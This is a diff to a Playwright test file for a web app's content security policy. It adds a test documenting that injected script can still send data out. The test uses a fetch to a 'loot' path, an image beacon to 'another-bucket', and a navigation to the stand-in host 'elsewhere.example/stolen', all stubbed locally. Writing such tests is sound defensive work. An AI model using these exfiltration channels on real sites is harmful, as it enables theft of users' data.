@@ -2,6 +2,7 @@ import { readFileSync } from "node:fs";
 import { hostingHeadersOf } from "../../scripts/hosting-headers-plugin";
 import type { PlainFields } from "../../emulator/demo/types";
 import { expect, test } from "./fixtures";
+import { currentStack } from "./stack";
 import { adminScreens, COMPANY, COMPANY_RECORD, companyScreens, OPEN_SCREENS, openScreen, RECORD, watch } from "./hardening-world"; // prettier-ignore
 import { brandRecord } from "./brand-records";
 
@@ -89,6 +90,27 @@ test("the policy stops what gets into a page all the same", async ({ page, panel
     return Reflect.get(window, "ran") as unknown;
   });
   expect(await evaluated).toBeUndefined();
+}); // prettier-ignore
+
+test("the policy does not stop a script from sending data out, as docs/security.md says", async ({ page }) => {
+  const { firestore, storage } = (await currentStack()).ports;
+  const sent: string[] = [];
+  await page.route(/stolen/, (route) => {
+    sent.push(new URL(route.request().url()).pathname);
+    return route.fulfill({ contentType: "text/html", body: "", headers: { "Access-Control-Allow-Origin": "*" } });
+  });
+  await page.goto("/westwalk-privacy-policies");
+  await page.evaluate(async (ports) => {
+    const host = `http://127.0.0.1:${String(ports.firestore)}`;
+    await fetch(`${host}/v1/projects/another-project/databases/(default)/documents/loot?documentId=stolen`);
+    const image = document.createElement("img");
+    image.src = `http://127.0.0.1:${String(ports.storage)}/v0/b/another-bucket/o/stolen`;
+    document.body.append(image);
+  }, { firestore, storage });
+  await expect.poll(() => sent.length).toBe(2);
+  await page.evaluate(() => location.assign("https://elsewhere.example/stolen"));
+  await expect(page).toHaveURL("https://elsewhere.example/stolen");
+  expect(sent).toEqual([expect.stringContaining("another-project"), "/v0/b/another-bucket/o/stolen", "/stolen"]);
 }); // prettier-ignore
 
 test("no other page can show the panel in a frame", async ({ page, baseURL }) => {
